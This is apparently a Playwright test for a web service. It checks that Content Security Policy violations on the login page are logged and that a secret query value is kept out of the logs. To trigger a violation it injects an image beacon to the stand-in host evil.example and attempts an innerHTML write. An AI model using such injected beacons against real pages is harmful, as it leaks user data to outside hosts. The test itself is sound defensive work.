import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, chromium } from '@playwright/test';
import { browserArguments, installedBrowser } from '../../../scripts/test/browser.ts';
import { makeCertificate } from '../../support/certificate.ts';
import { test } from '../../support/pages.ts';
import { freePort } from '../../support/port.ts';
import { startService } from '../../support/service.ts';

test('what the browser blocks on a page comes to the log', async () => {
	const folder = mkdtempSync(path.join(tmpdir(), 'um-reports-'));
	const { certFile, keyFile } = makeCertificate(folder, 'localhost');
	const port = await freePort();
	// Chromium reports over https only.
	const tls = { TLS_CERT_FILE: certFile, TLS_KEY_FILE: keyFile, TLS_PORT: String(port) };
	const service = await startService({ engine: 'sqlite', env: { ...tls, LOG_LEVEL: 'debug' } });
	// Otherwise reports wait for a minute.
	const args = [...browserArguments, '--short-reporting-delay', '--ignore-certificate-errors'];
	const browser = await chromium.launch({ executablePath: installedBrowser(), args });
	try {
		const page = await browser.newPage({ ignoreHTTPSErrors: true });
		await page.goto(`https://localhost:${port}/login?secret=geheim`);
		await page.evaluate(() => {
			document.body.append(Object.assign(new Image(), { src: 'https://evil.example/pixel.png?who=ada' }));
			try {
				document.body.innerHTML = 'geheim';
			} catch {
				// Trusted Types.
			}
		});
		const reports = () => service.logs().filter((line) => line.directive !== undefined);
		await expect
			.poll(reports, { timeout: 20_000 })
			.toContainEqual(
				expect.objectContaining({ page: '/login', directive: 'img-src', blocked: 'https://evil.example' })
			);
		expect(service.output()).not.toContain('geheim');
	} finally {
		await browser.close();
		await service.stop();
		rmSync(folder, { recursive: true });
	}
});
